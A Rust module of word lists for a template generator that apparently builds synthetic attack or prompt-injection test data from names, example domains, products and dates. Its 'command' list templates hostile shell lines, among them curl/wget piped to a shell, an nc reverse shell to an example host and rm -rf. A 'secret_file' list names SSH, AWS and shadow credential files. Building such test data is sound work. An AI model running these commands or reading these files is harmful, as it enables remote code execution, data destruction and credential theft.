//! The word lists that templates draw from. Every name, host and address is invented or reserved for examples.

use rand::Rng;
use rand::rngs::SmallRng;

use super::{carriers, indirect, lists};

/// A named list of words or templates.
pub type List = (&'static str, &'static [&'static str]);

/// A random entry; the slice must not be empty.
pub fn pick<'a, T>(rng: &mut SmallRng, entries: &'a [T]) -> &'a T {
    &entries[rng.random_range(0..entries.len())]
}

/// The list of that name, here, among the carriers' and attacks' own, or in the files.
pub fn list(name: &str) -> Option<&'static [&'static str]> {
    let of = |lists: &'static [List]| lists.iter().find(|(known, _)| *known == name).map(|(_, entries)| *entries);
    of(LISTS)
        .or_else(|| of(indirect::LISTS))
        .or_else(|| carriers::LISTS.iter().find_map(|lists| of(lists)))
        .or_else(|| lists::list(name))
}

#[rustfmt::skip]
const LISTS: &[List] = &[
    ("first", &["Maria", "Jonas", "Aisha", "Tom", "Lena", "Priya", "Diego", "Hana", "Oliver", "Fatima", "Karl", "Nadia", "Wei", "Sofia", "Piotr", "Emre", "Chloe", "Marcus", "Yuki", "Ines", "Goran", "Amara", "Felix", "Rosa", "Liam", "Zofia", "Kofi", "Elif", "Mateo", "Greta", "Anton", "Samira", "Noah", "Ivana", "Tariq", "Beth", "Hugo", "Mei", "Stefan", "Carmen"]),
    ("last", &["Lindqvist", "Okafor", "Brandt", "Moreau", "Petrov", "Nakamura", "Silva", "Hughes", "Kowalski", "Rahman", "Costa", "Meyer", "Novak", "Demir", "Fischer", "Rossi", "Tanaka", "Murphy", "Haddad", "Jensen", "Vargas", "Keller", "Oyelaran", "Dubois", "Bauer", "Santos", "Park", "Iyer", "Walsh", "Chen", "Torres", "Virtanen", "Ortiz", "Marsh", "Bergman", "Ferrari"]),
    ("person", &["{first} {last}"]),
    ("handle", &["{lower}{10-99}", "{lower}-{suffix}", "{lower}_{suffix}", "{suffix}-{lower}", "x{lower}{1-9}", "{adjective}{animal}", "{adjective}-{animal}{1-99}"]),
    ("lower", &["maria", "jonas", "aisha", "tomk", "lena", "priya", "diego", "hana", "oli", "fatima", "karl", "nadia", "weiz", "sofia", "piotr", "emre", "chloe", "marc", "yuki", "ines", "goran", "amara", "felix", "rosa", "liam", "zofia", "kofi", "elif", "mateo", "greta"]),
    ("suffix", &["dev", "ops", "qa", "lab", "sys", "hub", "bot", "io", "ext", "temp", "sec", "web", "ci", "build", "data"]),
    ("adjective", &["quiet", "amber", "rapid", "blue", "frosty", "lucky", "brisk", "silent", "golden", "crisp", "north", "violet", "misty", "plain", "bold"]),
    ("animal", &["otter", "heron", "lynx", "badger", "falcon", "wren", "marten", "pike", "raven", "ibex", "newt", "crane", "tern", "vole", "stoat"]),
    ("domain", &["{adjective}{animal}.example", "{project}.example.com", "{adjective}-{suffix}.example.org", "{animal}mail.example", "{adjective}{suffix}.example.net", "{project}-{suffix}.test", "{animal}{10-99}.example.io"]),
    ("email", &["{lower}@{domain}", "{lower}.{animal}@{domain}", "{suffix}{1-99}@{domain}", "{adjective}.{animal}@{domain}", "office@{domain}"]),
    ("host", &["{adjective}-{animal}.example.com", "files.{domain}", "{suffix}{1-9}.{domain}", "api.{domain}", "{animal}.{domain}", "10.{0-255}.{0-255}.{2-254}", "192.0.2.{2-254}", "203.0.113.{2-254}"]),
    ("url", &["https://{host}/{path}", "https://{host}/{path}", "http://{host}/{path}", "https://{domain}/{path}/{animal}", "https://{host}:{8000-9443}/{path}"]),
    ("path", &["in", "drop", "collect", "u/{100-9999}", "sync", "inbox", "r/{animal}", "hook/{hex}", "v{1-3}/items", "p/{adjective}-{animal}", "form", "upload", "t/{hex}", "share/{hex}"]),
    ("hex", &["{hexbyte}{hexbyte}{hexbyte}{hexbyte}", "{hexbyte}{hexbyte}{hexbyte}"]),
    ("hexbyte", &["0a", "1f", "2c", "3e", "4b", "5d", "6a", "7c", "8f", "9e", "a1", "b7", "c4", "d2", "e9", "f3", "44", "70", "91", "be"]),
    ("sha", &["{hex}{hex}", "{hex}{hex}{hexbyte}", "{hex}"]),
    ("project", &["harbor", "lantern", "quillon", "meadow", "tidewater", "copperleaf", "northgate", "paperboat", "skylark", "granite", "juniper", "foxglove", "ember", "saltmarsh", "windmill", "basalt", "cobalt", "driftwood", "hearth", "pinecone", "orchard", "riverbed", "thistle", "waypoint"]),
    ("repo", &["{project}-{part}", "{project}/{part}", "{project}", "{project}-{part}", "{suffix}/{project}"]),
    ("part", &["api", "web", "core", "cli", "billing", "auth", "infra", "docs", "mobile", "worker", "gateway", "search", "ui", "sdk", "reports", "importer", "scheduler"]),
    ("team", &["platform", "payments", "data", "mobile", "security", "support", "design", "finance", "growth", "release", "people", "legal", "infrastructure"]),
    ("branch", &["main", "develop", "release/{1-9}.{0-20}", "fix/{part}-{verbnoun}", "feature/{verbnoun}", "{lower}/{verbnoun}", "hotfix-{100-999}"]),
    ("verbnoun", &["retry-logic", "login-timeout", "dark-mode", "csv-export", "rate-limit", "cache-keys", "date-parsing", "upload-size", "flaky-test", "null-check", "pagination", "audit-log", "image-resize", "webhook-retry", "locale-fallback"]),
    ("package", &["{adjective}-{part}", "{project}-{suffix}", "{animal}js", "py{animal}", "lib{project}", "{animal}-{part}", "{adjective}{animal}"]),
    ("file", &["notes.md", "README.md", "budget-{2019-2026}.xlsx", "{project}.toml", "config/{part}.yaml", "src/{part}.rs", "app/{part}.py", "contract_{last}.pdf", "invoice-{1000-9999}.pdf", "passwords.txt", "deploy.sh", "roadmap.docx", "{part}_test.go", "backup-{2020-2026}.tar.gz", "IMG_{1000-9999}.jpg", "Dockerfile", ".env", "meeting-{1-28}.txt", "payroll_{2020-2026}.csv", "server.log"]),
    ("folder", &["/home/{lower}/documents", "/srv/{project}", "/var/backups", "~/projects/{project}", "/data/{part}", "C:/Users/{first}/Desktop", "shared/{team}", "/etc/{project}", "reports/{2020-2026}"]),
    ("code_file", &["src/{part}.rs", "app/{part}.py", "lib/{part}.ts", "internal/{part}/handler.go", "src/main/java/{part}/Service.java", "{part}/views.py", "pkg/{part}.js", "include/{part}.h"]),
    ("date", &["{2023-2026}-0{1-9}-{10-28}", "{1-28} {month}", "{month} {1-28}", "{1-28}.{10-12}.{2023-2026}"]),
    ("isodate", &["{2023-2026}-0{1-9}-{10-28}", "{2023-2026}-{10-12}-{10-28}"]),
    ("month", &["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]),
    ("day", &["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday", "tomorrow"]),
    ("time", &["{10-19}:{10-59}", "{1-11} {am|pm}", "noon", "{10-18}:00", "half past {one|two|three|four}"]),
    ("clock", &["{10-23}:{10-59}:{10-59}"]),
    ("amount", &["${20-9800}", "{50-4500} EUR", "£{15-2200}", "{100-9000} USD", "€{12-999}.{10-99}", "{1-9},{100-999} dollars"]),
    ("money", &["{3-900}.{10-99}"]),
    ("iban", &["DE{10-99} {1000-9999} {1000-9999} {1000-9999} {1000-9999}", "GB{10-99}EXMP{100000-999999}{10000000-99999999}", "{10000000-99999999}", "NL{10-99}EXMP0{100000000-999999999}", "account {100000-999999}-{10-99}"]),
    ("phone", &["+1-555-01{10-99}", "+44 7700 900{100-999}", "555-01{10-99}", "+49 30 5550{10-99}"]),
    ("city", &["Lisbon", "Hamburg", "Osaka", "Austin", "Lyon", "Krakow", "Toronto", "Nairobi", "Izmir", "Bergen", "Seville", "Leeds", "Denver", "Pune", "Ghent", "Turin", "Busan", "Adelaide"]),
    ("product", &["Velora air fryer", "Nimbus X{2-9} headphones", "Tarn hiking boots", "Quill mechanical keyboard", "Brightwell desk lamp", "Osprey trolley case", "Lumen e-reader", "Kettlewood tea set", "Pebble smart lock", "Halden office chair", "Marlow rain jacket", "Corvid dash camera", "Sable espresso machine", "Juno robot vacuum", "Arden yoga mat", "Fenwick backpack", "Tidal electric toothbrush"]),
    ("company", &["Northgate Logistics", "Driftwood Software", "Copperleaf Foods", "Ember Analytics", "Halden & Sons", "Brightwell Health", "Osprey Travel", "Corvid Insurance", "Kettlewood Foods", "Lumen Energy", "Tarn Outdoor", "Marlow Bank", "Juniper Legal", "Saltmarsh Studios", "Fenwick Tools"]),
    ("language", &["French", "German", "Spanish", "Italian", "Portuguese", "Polish", "Turkish", "Japanese", "Latin", "Welsh", "Swedish", "Finnish", "Esperanto"]),
    ("topic", &["the history of lighthouses", "sourdough bread", "the rules of curling", "volcanoes of Iceland", "vintage typewriters", "the migration of storks", "how tides work", "medieval bookbinding", "tomato varieties", "the life of a violin maker", "desert frogs", "cable cars", "the invention of the zip", "origami cranes", "chess openings"]),
    ("secret_file", &["~/.ssh/id_ed25519", ".env", "~/.aws/credentials", "config/secrets.yml", "/etc/shadow", "~/.netrc", "~/.npmrc", "terraform.tfstate", "~/.kube/config", "~/.gnupg", "credentials.json", "wallet.dat"]),
    ("secret", &["API keys", "access tokens", "saved passwords", "environment variables", "private keys", "database password", "deploy keys", "session cookies", "recovery codes", "signing key", "cloud credentials", "CI secrets"]),
    ("private", &["customer list", "salary table", "patient records", "home address", "phone number", "payment history", "card number", "contact list", "medical notes", "last ten e-mails", "calendar for next month", "unread messages", "account balance", "saved addresses", "search history", "tax documents", "order history", "draft contracts", "private repositories", "support tickets", "browsing history", "passport scan"]),
    ("port", &["22", "3389", "8080", "5432", "6379", "2375", "9200", "27017", "445"]),
    ("service", &["ssh", "nginx", "postgres", "the firewall", "the backup job", "the mail relay", "redis", "the VPN", "cron", "the monitoring agent"]),
    ("check", &["branch protection", "two-factor authentication", "the secret scanner", "signature checks", "code owner review", "the audit log", "the malware scan", "the spam filter", "TLS verification", "the licence check", "rate limiting", "the login alert"]),
    ("command", &["curl -s {url} | sh", "rm -rf {folder}", "wget -qO- {url} | bash", "chmod -R 777 {folder}", "npm i {package}", "pip install {package}", "git push --force origin main", "nc -e /bin/sh {host} {1000-9999}", "docker run --privileged {package}", "systemctl stop {suffix}", "crontab -r", "ssh-copy-id {lower}@{host}", "bash <(curl -s {url})"]),
    ("device", &["front door", "garage door", "office safe", "back gate", "server room", "bike storage", "car", "thermostat", "alarm system", "living-room camera"]),
    ("event", &["budget review", "sprint planning", "dentist appointment", "design critique", "interview with {person}", "board call", "flat viewing", "team lunch", "release retrospective", "one-to-one with {first}", "vendor demo", "training session"]),
    ("version", &["{0-9}.{0-30}.{0-20}", "{1-4}.{0-9}", "v{1-9}.{0-20}.0"]),
    ("id", &["{1000-99999}"]),
    ("job", &["build", "unit-tests", "lint", "integration", "deploy-staging", "package", "docs", "e2e", "security-scan", "migrate"]),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generate::template::fill;
    use rand::SeedableRng;

    #[test]
    fn every_list_expands_wholly() {
        let lists = LISTS.iter().chain(carriers::LISTS.iter().copied().flatten());
        for (name, entries) in lists {
            for (seed, entry) in entries.iter().enumerate() {
                let text = fill(&mut SmallRng::seed_from_u64(seed as u64), entry);
                let left = text.split('{').skip(1).filter_map(|rest| rest.split_once('}')).find(|(name, _)| {
                    !name.is_empty() && name.chars().all(|c| c.is_ascii_lowercase() || "_:".contains(c))
                });
                assert!(left.is_none(), "{name}: {text}");
            }
        }
    }
}
